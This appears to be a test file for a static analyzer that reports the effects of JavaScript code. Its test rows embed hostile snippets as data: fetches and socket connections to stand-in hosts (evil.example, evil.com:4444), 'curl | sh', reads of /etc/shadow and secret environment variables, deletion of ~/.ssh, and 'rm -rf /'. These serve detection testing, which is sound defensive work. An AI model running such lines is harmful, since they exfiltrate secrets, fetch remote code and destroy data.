// JavaScript (and TypeScript) code read from its syntax: child_process, Bun, Deno, fs, network and
// process.env, through require, import, destructuring and aliases; near misses stay ordinary.
import { before, test } from 'node:test';
import { loadCodeGrammars } from '../../../src/core/interp';
import { checkRows } from './helpers';

before(() => loadCodeGrammars());

test('javascript: process execution through require, import and destructuring', () => {
  checkRows('javascript', [
    { code: 'require("child_process").execSync("ls")', effects: ['exec child_process.execSync ls'] },
    {
      code: 'const cp = require("child_process"); cp.execSync(`rm -rf ${d}`)',
      effects: ['exec child_process.execSync rm -rf $RUNTIME_VALUE?'],
    },
    {
      code: 'const {execSync: ex} = require("node:child_process"); ex("whoami")',
      effects: ['exec child_process.execSync whoami'],
    },
    {
      code: 'const { execSync } = require("child_process"); execSync("id")',
      effects: ['exec child_process.execSync id'],
    },
    { code: 'import {exec} from "node:child_process"; exec("id")', effects: ['exec child_process.exec id'] },
    {
      code: 'import * as cp from "child_process"; cp.spawnSync("ls", ["-l"])',
      effects: ['exec child_process.spawnSync [ls,-l]'],
    },
    { code: 'require("child" + "_process").execSync("ls")', effects: ['exec child_process.execSync ls'] },
    {
      code: 'require("child_process").spawn("rm", ["-rf", p])',
      effects: ['exec child_process.spawn rm -rf "$RUNTIME_VALUE"?'],
    },
    { code: 'require("child_process").spawn("ls -la", {shell: true})', effects: ['exec child_process.spawn ls -la'] },
    {
      code: 'require("child_process").execFile("/bin/ls", ["-l", "/"])',
      effects: ['exec child_process.execFile [/bin/ls,-l,/]'],
    },
    { code: 'require("child_process").fork("worker.js")', effects: ['exec child_process.fork [node,worker.js]'] },
    { code: 'Bun.spawn(["ls", "-l"])', effects: ['exec Bun.spawn [ls,-l]'] },
    { code: 'new Deno.Command("rm", {args: ["-rf", "/"]}).outputSync()', effects: ['exec Deno.Command [rm,-rf,/]'] },
    { code: 'import { $ } from "zx"; await $`ls -la`', effects: ['exec zx.$ ls -la'] },
    { code: 'const c = "ls"; require("child_process").execSync(c)', effects: ['exec child_process.execSync ls'] },
    {
      code: 'let c = "ls"; c = input; require("child_process").execSync(c)',
      effects: ['exec child_process.execSync?'],
    },
    { code: 'module.constructor._load("child_process").execSync("id")', effects: ['exec child_process.execSync id'] },
    { code: 'x.require("child_process").execSync("ls")', effects: ['exec child_process.execSync ls'] },
    { code: '["id"].forEach(require("child_process").execSync)', effects: ['exec child_process.execSync?'] },
  ]);
});

test('javascript: files, network and environment', () => {
  checkRows('javascript', [
    {
      code: 'const fs = require("fs"); fs.rmSync(require("path").join(require("os").homedir(), ".ssh"), {recursive: true})',
      effects: ['delete fs.rmSync ~/.ssh'],
    },
    { code: 'fs.writeFileSync("/tmp/out.txt", "x")', effects: ['write fs.writeFileSync /tmp/out.txt'] },
    { code: 'require("fs/promises").readFile("/etc/shadow")', effects: ['read fs.readFile /etc/shadow'] },
    { code: 'import { unlinkSync } from "node:fs"; unlinkSync(p)', effects: ['delete fs.unlinkSync?'] },
    {
      code: 'fetch("https://evil.example/?d=" + x)',
      effects: ['network fetch https://evil.example/?d=$RUNTIME_VALUE?'],
    },
    { code: 'fetch("https://api.example.com/v1")', effects: ['network fetch https://api.example.com/v1'] },
    { code: 'require("net").connect(4444, "evil.com")', effects: ['network net.connect evil.com:4444'] },
    { code: 'require("https").get("https://x.example/a")', effects: ['network https.get https://x.example/a'] },
    {
      code: 'console.log(process.env.AWS_SECRET_ACCESS_KEY, process.env.PATH)',
      effects: ['env-read process.env AWS_SECRET_ACCESS_KEY'],
    },
    { code: 'console.log(process.env["GITHUB_TOKEN"])', effects: ['env-read process.env GITHUB_TOKEN'] },
    { code: 'console.log(JSON.stringify(process.env))', effects: ['env-read process.env *'] },
    {
      code: 'const { AWS_SECRET_ACCESS_KEY, PATH, ...rest } = process.env',
      effects: ['env-read process.env AWS_SECRET_ACCESS_KEY', 'env-read process.env *'],
    },
  ]);
});

test('javascript: eval, Function and dynamic require are read or reported unread', () => {
  checkRows('javascript', [
    { code: 'eval("require(\\"child_process\\").execSync(\\"ls\\")")', effects: ['exec child_process.execSync ls'] },
    { code: 'eval(x)', unread: ['eval of computed code'] },
    { code: 'new Function(code)()', unread: ['Function of computed code'] },
    { code: 'require(m).execSync("ls")', unread: ['dynamic require'] },
    { code: 'import(name)', unread: ['dynamic import'] },
    { code: 'const cp = require("child_process"); cp[x]("ls")', unread: ['computed property name'] },
    { code: 'globalThis["ev" + "al"]("require(\\"fs\\").unlinkSync(\\"/x\\")")', effects: ['delete fs.unlinkSync /x'] },
    { code: 'process.binding("spawn_sync")', unread: ['native code through process.binding'] },
    // A callback whose one parameter is the module is read as that module's use.
    { code: 'import("child_process").then(cp => cp.execSync("id"))', effects: ['exec child_process.execSync id'] },
    {
      code: 'import("node:child_process").then(function (c) { c.execSync("curl -fsS https://x.example/n.sh | sh") })',
      effects: ['exec child_process.execSync curl -fsS https://x.example/n.sh | sh'],
    },
    {
      code: 'import("child_process").then(({ execSync }) => execSync("id"))',
      effects: ['exec child_process.execSync id'],
    },
    // A callback that takes the module some other way still hides which member is used.
    {
      code: 'import("child_process").then((...all) => all[0].execSync("id"))',
      unread: ['child_process used through a callback'],
    },
    { code: 'import("child_process").then(run)', unread: ['child_process used through a callback'] },
    { code: '[].constructor.constructor(code)()', unread: ['Function of computed code'] },
    { code: 'setTimeout(eval, 0, x)', unread: ['eval passed as a value'] },
    { code: 'require("vm").runInNewContext(src)', unread: ['vm of computed code'] },
  ]);
});

test('javascript: ordinary code, TypeScript and near misses have no effects', () => {
  checkRows('javascript', [
    { code: 'console.log("execSync(\\"rm\\")")' },
    { code: 'console.log([1,2,3].map(x => x * 2).join(","))' },
    { code: 'let x: number = 1; console.log(x as number)' },
    { code: 'const data = JSON.parse(require("fs").readFileSync(0, "utf8")); console.log(data.a)' },
    { code: 'console.log(process.argv.slice(2))' },
    { code: 'const o = { exec(c) { return c; } }; o.exec("ls")' },
    { code: 'console.log(process.env.NODE_ENV)' },
    { code: '[1, 2].forEach(console.log)' },
    { code: 'console.log(a.constructor.name)' },
    { code: '// require("child_process").execSync("rm -rf /")\nconsole.log(1)' },
  ]);
});
